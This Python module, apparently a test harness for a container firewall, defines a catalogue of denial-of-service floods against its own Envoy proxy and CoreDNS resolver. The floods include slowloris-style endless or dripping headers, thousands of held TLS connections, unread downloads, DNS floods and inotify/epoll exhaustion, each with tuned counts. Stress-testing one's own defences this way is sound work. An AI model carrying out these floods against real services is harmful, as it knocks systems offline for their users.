"""Attacks that exhaust Envoy or CoreDNS, each a command of the peer program.

Without limits, each reaches its size within the first third of its time and keeps it until the end.
"""

from dataclasses import dataclass, replace

from clawker_fw.rules.own_page import PAGE
from devkit.attacks.attack import Command
from devkit.attacks.requests import at_once, head, pseudo
from devkit.hellos import client_hello

TARGET = "target.test"
"""A name with rules, which exists. Nobody else uses its host."""

SHARED = "shared.test"
"""A name whose TLS is looked into. Everybody uses its host, which speaks HTTP/2."""

GONE, SLOW, SILENT = "gone.test", "slow.test", "silent.test"
"""Subtrees with rules. Names below them do not exist, which is answered at once, late, or never."""

SLOW_SECONDS = 3

WILD = "wild.test"
"""A subtree with rules, in which every name exists."""

NAMED, MUTE = "named.test", "mute.test"
"""Domains whose names have a rule each. Lookups below the first succeed; those below the second get no answer."""

NAMES = {NAMED: 1_000, MUTE: 70}
"""The number of names in each domain: `label-000000` and so on."""

_REFUSED = "refused.test"
_ANY = "any-label-00"
"""The label that the peer program replaces by another one for each connection."""

_OTHERS = f"{_ANY}.{_REFUSED}"
_LARGE_FILE = "/bytes?size=1e9"
_TO_ENVOY = ("--connect", "{envoy}:80")
_SOON = ("--pause", "100ms")
"""For what attacks with names: connecting as fast as possible is an attack of its own."""

_LONG_MESSAGE = "ffff00"
"""The beginning of a query over TCP that announces 64 KiB (RFC 1035, section 4.2.2), and its first octet."""

_UNFINISHED_PAGE = head("POST / HTTP/1.1", f"Host: {PAGE}", "Content-Length: 100").hex()

_NOBODY = "65532"

_DNS = 53
_OWN_CLOSED_PORT = "127.0.0.1:9"
_AT_ONCE = 64
"""Connections of a flood at the same time: more would only wait for each other."""


@dataclass(frozen=True)
class Flood:
    """One such attack, by so many agents. `asks_below` is the subtree whose names it makes Envoy look up.

    Each agent performs the attacks in `also` at the same time. Placeholders of the command are `{envoy}`,
    `{resolver}`, `{network}` (the agents'), `{seconds}` and `{third}` (of the seconds).
    """

    name: str
    command: Command
    asks_below: str | None = None
    control: bool = False
    capabilities: tuple[str, ...] = ()
    agents: int = 1
    also: tuple["Flood", ...] = ()

    def against(self, seconds: float, *, envoy: str, resolver: str, network: str) -> Command:
        known = {"envoy": envoy, "resolver": resolver, "network": network, "third": f"{seconds / 3:.1f}s"}
        return tuple(word.format(**known, seconds=seconds) for word in self.command)


def _siege(place: str, count: int, *options: str) -> Command:
    return ("siege", place, "--count", str(count), "--seconds", "{seconds}", *options)


def _hold(count: int, port: int, *options: str) -> Command:
    """Keep connections open. A refused one is tried again every few seconds."""
    place = "{resolver}" if port == _DNS else "{envoy}"
    return _siege(f"{place}:{port}", count, "--rise", "{third}", "--pause", "{third}", *options)


def _flood(count: int, port: int, *options: str) -> Command:
    """Open a connection again as soon as it has ended or was refused."""
    return _siege(f"{{envoy}}:{port}", count, *options)


def _hello(name: str) -> Command:
    return ("--hex", client_hello(name.encode()).hex())


def _request(name: str, path: str = "/") -> Command:
    return ("--hex", head(f"GET {path} HTTP/1.1", f"Host: {name}").hex())


def _endless(octets: int) -> Command:
    """Send so much of a request's headers, which never end."""
    begun = f"GET / HTTP/1.1\r\nHost: {TARGET}\r\nX: "
    return ("--hex", begun.encode().hex(), "--padding", str(octets))


def _names(below: str) -> Command:
    """Request one name after the other, of those with rules or else invented ones."""
    labels = ("--labels", str(NAMES[below])) if below in NAMES else ()
    return _flood(100, 80, *_request(f"{_ANY}.{below}"), *labels, "--brief", *_SOON)


def _kept(name: str, *options: str) -> Command:
    """Make requests on kept connections, as many as there are answers."""
    return ("drive", f"http://{name}/", *_TO_ENVOY, "--kept", "--seconds", "{seconds}", *options)


_EXHAUST = ("exhaust", _NOBODY, "--for", "{seconds}s")
"""Takes, as the user that runs programs in many images, all that the kernel gives it."""

_UNFINISHED = at_once([pseudo(TARGET, method="POST")] * 100, complete=False).hex()
"""Requests over HTTP/2 that never end, all on one connection."""

FLOODS = (
    Flood("busy, attacking nobody", _siege(_OWN_CLOSED_PORT, _AT_ONCE), control=True),
    Flood("10,000 long messages to the resolver", _hold(10_000, _DNS, "--hex", _LONG_MESSAGE)),
    Flood("18,000 TLS connections kept open", _hold(18_000, 443, *_hello(TARGET))),
    Flood("19,000 requests with endless headers", _hold(19_000, 80, *_endless(56 * 1024))),
    Flood("10,000 requests with headers just allowed, endless", _hold(10_000, 80, *_endless(31 * 1024))),
    Flood("1,500 downloads not read", _hold(1_500, 80, *_request(TARGET, _LARGE_FILE), "--unread")),
    Flood(
        "40 downloads over HTTP/2 not read, of a host that others use",
        _hold(40, 443, "--tls", SHARED, *_request(SHARED, _LARGE_FILE), "--unread"),
    ),
    Flood("names that do not exist, 500 at once", _flood(500, 443, *_hello(f"{_ANY}.{GONE}"), *_SOON), GONE),
    Flood("names answered slowly, 1,000 at once", _flood(1_000, 443, *_hello(f"{_ANY}.{SLOW}"), *_SOON), SLOW),
    Flood("names never answered, 1,000 at once", _flood(1_000, 443, *_hello(f"{_ANY}.{SILENT}"), *_SOON), SILENT),
    Flood(
        "flood of DNS queries", ("inundate", f"a.{_REFUSED}", "--server", "{resolver}", "--seconds", "{seconds}")
    ),
    Flood("flood of refused server names", _flood(_AT_ONCE, 443, *_hello(_OTHERS))),
    Flood("flood of refused requests", _flood(_AT_ONCE, 80, *_request(_OTHERS), "--brief")),
    Flood("flood of refused requests on kept connections", _kept(_REFUSED, "--clients", "64")),
    Flood("10,000 requests of one octet a second", _hold(10_000, 80, *_endless(0), "--drip", "1s")),
    Flood("1,000 connections with 100 unfinished requests each", _hold(1_000, 80, "--hex", _UNFINISHED)),
    Flood("18,000 TLS connections half closed", _hold(18_000, 443, *_hello(TARGET), "--half")),
    Flood("bursts of 4,096 connections", _flood(4_096, 443, *_hello(_OTHERS), "--brief", "--pause", "3s")),
    Flood(
        "flood of refused requests with long paths",
        _flood(_AT_ONCE, 80, *_request(_OTHERS, "/" + 8_000 * "x"), "--brief"),
    ),
    Flood("18,000 requests for the page without their bodies", _hold(18_000, 80, "--hex", _UNFINISHED_PAGE)),
    Flood("neighbour entries for the whole network", ("sweep", "{network}", "--seconds", "{seconds}")),
    Flood("all inotify instances of another user", _EXHAUST, capabilities=("SETUID",)),
)
"""The first is a control: what a busy container costs its neighbours, whatever the firewall does."""


_READ_FIRST = ("--unread", "--first", "4000000")
_SHARE = ("--clients", "5", "--interval", "100ms")
_RULED = Flood("names of rules", _names(NAMED), NAMED)
_CROWD = (
    Flood("busy", _siege(_OWN_CLOSED_PORT, _AT_ONCE), control=True),
    Flood("downloads read for a while", _hold(1_024, 80, *_request(TARGET, _LARGE_FILE), *_READ_FIRST)),
    Flood("invented names", _names(WILD), WILD),
    _RULED,
    Flood("invented names, and names of rules", _names(WILD), also=(_RULED,)),
    Flood("refused requests", _kept(_REFUSED, "--clients", "64")),
    Flood("refused requests within their share", _kept(_REFUSED, *_SHARE)),
    Flood("names of rules never answered", _names(MUTE), MUTE),
    Flood("refused datagrams", ("inundate", _REFUSED, "--server", "{envoy}:9", "--seconds", "{seconds}")),
    Flood("requests", _kept(TARGET, "--clients", "64")),
)
CROWDS = tuple(replace(flood, name=f"eight agents: {flood.name}", agents=8) for flood in _CROWD)
"""What eight agents do at once, which use one processor together."""

LARGE = (Flood("all epoll watches of another user", (*_EXHAUST, "--epoll"), capabilities=("SETUID",)),)
"""Those that take a gigabyte of the machine: only performed when they are asked for."""
